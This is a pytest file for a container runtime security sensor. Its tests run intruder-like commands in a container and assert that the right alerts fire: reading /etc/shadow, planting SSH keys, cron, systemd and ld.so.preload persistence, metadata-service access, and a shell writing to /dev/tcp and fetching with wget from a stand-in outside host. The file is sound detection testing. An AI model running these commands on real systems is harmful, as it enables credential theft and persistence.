"""Scenario S2, live: what an intruder does in a container, and what an application does all day."""

import time
from collections.abc import Iterator

import msgspec
import pytest

from support import runc, sensor
from support.pods import Container, Pods, Spec
from support.sensor import Sensor

pytestmark = pytest.mark.containers

METADATA = "169.254.169.254"
METADATA_6 = "fd00:ec2::254"
OUTSIDE = "198.51.100.7"  # of a range for documentation; here it is the pod's own
SETTLING_SECONDS = 2


@pytest.fixture(scope="module")
def shikra(pods: Pods) -> Iterator[Sensor]:
    """Shikra with its default packs."""
    with sensor.running(pods.engine.socket) as running:
        yield running


@pytest.fixture(scope="module")
def container(pods: Pods, shikra: Sensor) -> Iterator[Container]:  # noqa: ARG001  starts after Shikra
    """Run a container in which the addresses that tests connect to are its own."""
    with pods.pod("api-5d4", namespace="app-services") as pod:
        container = pod.run(Spec(image=pods.engine.python_image(), name="api"))
        container.own_addresses(METADATA, METADATA_6, OUTSIDE)
        yield container


class Told(msgspec.Struct, frozen=True):
    """What an alert must say."""

    rule: str
    priority: str
    fields: dict[str, object]


def connecting(address: str, port: int) -> tuple[str, ...]:
    """Return the command of a program, no shell, that connects there."""
    family = "AF_INET6" if ":" in address else "AF_INET"
    code = f"import socket; socket.socket(socket.{family}).connect_ex(('{address}', {port}))"
    return ("python3", "-c", code)


def sending(address: str, port: int) -> tuple[str, ...]:
    """Return the command of a program that sends a datagram there without connecting."""
    code = (
        "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM);"
        f"s.sendto(b'x', ('{address}', {port}))"
    )
    return ("python3", "-c", code)


@pytest.mark.parametrize(
    ("command", "told"),
    [
        pytest.param(
            ("sh", "-c", "echo 10.0.0.1 mirror >> /etc/hosts.new"),
            Told("Runtime write below etc", "Error", {"fs.path.name": "/etc/hosts.new"}),
            id="a write below etc",
        ),
        pytest.param(
            ("sh", "-c", "cp /usr/bin/busybox /srv/apt-get; /srv/apt-get update"),
            Told(
                "Runtime package manager in running container",
                "Error",
                {"proc.cmdline": "apt-get update"},
            ),
            id="a package manager",
        ),
        pytest.param(
            ("cat", "/etc/shadow"),
            Told("Runtime sensitive file read", "Critical", {"fd.name": "/etc/shadow"}),
            id="the password file",
        ),
        pytest.param(
            ("sh", "-c", "ln -s /etc/shadow /srv/x; cat /srv/x"),
            Told(
                "Runtime sensitive file read",
                "Critical",
                {"fd.name": "/srv/x", "fd.realpath": "/etc/shadow"},
            ),
            id="the password file through a link",
        ),
        pytest.param(
            ("cat", "/etc/sudoers"),
            Told(
                "Runtime sensitive file read",
                "Critical",
                {"fd.name": "/etc/sudoers", "evt.res": "ENOENT"},
            ),
            id="the file of rights, which isn't there",
        ),
        pytest.param(
            connecting(METADATA, 80),
            Told("Runtime IMDS access", "Critical", {"fd.rip": METADATA, "fd.rport": 80}),
            id="the metadata service",
        ),
        pytest.param(
            connecting(METADATA_6, 80),
            Told("Runtime IMDS access", "Critical", {"fd.rip": METADATA_6, "fd.rport": 80}),
            id="the metadata service by IPv6",
        ),
        pytest.param(
            sending(METADATA, 53),
            Told("Runtime IMDS access", "Critical", {"fd.rip": METADATA, "fd.rport": 53}),
            id="the metadata service by a datagram",
        ),
        pytest.param(
            connecting(OUTSIDE, 3333),
            Told("Runtime mining pool port", "Critical", {"fd.rip": OUTSIDE, "fd.rport": 3333}),
            id="a mining pool",
        ),
        pytest.param(
            ("sh", "-c", "mkdir -p /root/.ssh; echo key > /root/.ssh/authorized_keys"),
            Told(
                "Runtime persistence write",
                "Critical",
                {"fs.path.name": "/root/.ssh/authorized_keys"},
            ),
            id="a key to log in with",
        ),
        pytest.param(
            ("sh", "-c", "mkdir -p /etc/cron.d; echo x > /etc/cron.d/job"),
            Told("Runtime persistence write", "Critical", {"fs.path.name": "/etc/cron.d/job"}),
            id="a cron table",
        ),
        pytest.param(
            ("sh", "-c", "mkdir -p /etc/cron.d; echo x > /srv/j; mv /srv/j /etc/cron.d/moved"),
            Told("Runtime persistence write", "Critical", {"fs.path.target": "/etc/cron.d/moved"}),
            id="a cron table, moved there",
        ),
        pytest.param(
            ("sh", "-c", "ln -s /srv/x /etc/linked"),
            Told("Runtime write below etc", "Error", {"fs.path.name": "/etc/linked"}),
            id="a link put below etc",
        ),
        pytest.param(
            ("sh", "-c", "echo /srv/x.so > /etc/ld.so.preload; : > /etc/ld.so.preload"),
            Told("Runtime persistence write", "Critical", {"fs.path.name": "/etc/ld.so.preload"}),
            id="a library for every program",
        ),
        pytest.param(
            ("sh", "-c", "mkdir -p /etc/systemd/system; echo x > /etc/systemd/system/x.service"),
            Told(
                "Runtime persistence write",
                "Critical",
                {"fs.path.name": "/etc/systemd/system/x.service"},
            ),
            id="a systemd unit",
        ),
        pytest.param(
            ("sh", "-c", "echo true >> /root/.profile"),
            Told("Runtime persistence write", "Critical", {"fs.path.name": "/root/.profile"}),
            id="a shell's profile",
        ),
    ],
)
def test_what_an_intruder_does_gives_an_alert(
    shikra: Sensor, container: Container, command: tuple[str, ...], told: Told
) -> None:
    """Each row of the table of rules, done for real, with what the alert must say."""
    container.exec(*command)
    found = shikra.expect(container.id, told.rule, told.fields)
    assert found["priority"] == told.priority
    said = found["output_fields"]
    assert said["user.name"] == "root"
    assert said["k8s.ns.name"] == "app-services"
    assert said["k8s.pod.name"] == "api-5d4"
    assert said["container.image.repository"] == "registry.local/team/app"
    assert said["container.image.tag"] == "1.2.3"


def test_a_shell_with_a_terminal_and_where_it_connects(
    shikra: Sensor, container: Container
) -> None:
    """The shell is a warning; its own connection and those of what it started are critical."""
    with container.terminal("bash", "-i") as terminal:
        terminal.type("echo re''ady")
        terminal.read_until(b"ready")
        shell = shikra.expect(
            container.id, "Runtime interactive shell", {"proc.cmdline": "bash -i"}
        )
        terminal.type(f"echo x > /dev/tcp/{OUTSIDE}/81; wget http://{OUTSIDE}:82; echo en''ded")
        terminal.read_until(b"ended")
        rule = "Runtime suspicious outbound shell"
        itself = shikra.expect(container.id, rule, {"fd.rport": 81})
        child = shikra.expect(container.id, rule, {"fd.rport": 82})
        terminal.type(f"setsid wget http://{OUTSIDE}:83; echo do''ne")
        terminal.read_until(b"done")
        freed = shikra.expect(container.id, rule, {"fd.rport": 83})
    assert shell["priority"] == "Warning"
    assert shell["output_fields"]["proc.entered"] is True
    assert itself["priority"] == child["priority"] == "Critical"
    assert itself["output_fields"]["proc.cmdline"] == "bash -i"
    assert child["output_fields"]["proc.cmdline"] == f"wget http://{OUTSIDE}:82"
    assert freed["output_fields"]["proc.tty"] == 0
    assert child["lineage"][0] == "bash"


@pytest.mark.parametrize(
    "command",
    [
        pytest.param(("sh", "-c", "true"), id="a health probe"),
        pytest.param(("cat", "/etc/passwd", "/etc/hosts"), id="reading what all may read"),
        pytest.param(("sh", "-c", "echo x > /tmp/file; rm /tmp/file"), id="writing elsewhere"),
        pytest.param(connecting("127.0.0.1", 8080), id="loopback"),
        pytest.param(connecting(OUTSIDE, 443), id="a connection of a program"),
        pytest.param(("sh", "-c", ". /etc/profile 2>/dev/null; true"), id="reading a profile"),
    ],
)
def test_what_applications_do_is_silent(
    pods: Pods, shikra: Sensor, command: tuple[str, ...]
) -> None:
    """Each row, done for real, gives no alert of the runtime pack."""
    with pods.pod("quiet", namespace="app-services") as pod:
        container = pod.run(Spec(image=pods.engine.python_image(), name="quiet"))
        container.own_addresses(OUTSIDE)
        container.exec(*command)
        time.sleep(SETTLING_SECONDS)  # nothing tells that no alert is on its way
        heard = [line for line in shikra.of(container.id) if line["rule"].startswith("Runtime")]
        assert heard == []
        container.exec("cat", "/etc/shadow")
        shikra.expect(container.id, "Runtime sensitive file read", {})


def test_the_platform_s_own_namespaces_are_silent(pods: Pods, shikra: Sensor) -> None:
    """A container in a platform namespace may do what would be told of elsewhere."""
    with pods.pod("proxy", namespace="kube-system") as pod:
        container = pod.run(Spec(image=pods.engine.busybox_image(), name="proxy"))
        container.exec("cat", "/etc/shadow")
        time.sleep(SETTLING_SECONDS)
        assert shikra.of(container.id) == []


def test_a_container_that_no_runtime_knows_is_watched(pods: Pods, shikra: Sensor) -> None:
    """Plain runc has no metadata; its id, its first process and its alerts are there."""
    with runc.running(pods.engine) as bare:
        bare.exec("cat", "/etc/shadow")
        found = shikra.expect(bare.id, "Runtime sensitive file read", {})
    assert found["output_fields"]["k8s.ns.name"] is None
    assert found["output_fields"]["proc.entered"] is True
